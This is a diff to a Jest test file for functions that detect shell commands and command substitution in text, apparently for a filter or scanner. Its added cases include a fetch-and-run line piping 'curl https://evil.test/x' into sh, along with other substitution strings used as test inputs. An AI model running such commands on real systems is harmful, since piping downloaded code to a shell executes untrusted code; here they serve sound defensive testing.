@@ -149,15 +149,24 @@ describe('beside prose a command is judged by what it does', () => {
     },
   );
 
+  test.each(['sudo chown -R $(whoami) ~/.npm'])('%j is a command line', (value) => {
+    expect(detectShell(value)).toBeNull();
+    expect(detectCommandLine(value)).not.toBeNull();
+  });
+
+  test.each([
+    '`x` `curl https://evil.test/x|sh`',
+    '`x` `id`',
+    'echo A$((1+1))$(echo A)A',
+    'print(`echo A`.`echo B`)',
+  ])('%j is a substitution', (value) => expect(detectShell(value)).toBe('substitution of a command'));
+
   test.each([
     'In bash, $(date) is replaced by the current date',
     'Dear $(name), your order $(id) ships on $(date).',
-    'docker run --user $(id -u):$(id -g) -v $(pwd):/app image',
-    'sudo chown -R $(whoami) ~/.npm',
     'Install with `curl -fsSL https://get.example.com | sh`',
     'Run `ls -la` to list all files, `id` to see groups',
     '`users`.`id` = `orders`.`user_id`',
-    '| `id` | `name` |',
     'First cd /opt && wget https://x.example/f.tgz && tar xzf f.tgz',
     'Please sleep; sleep 8 hours a night',
     'Jack & Jill; kill -9 joke',
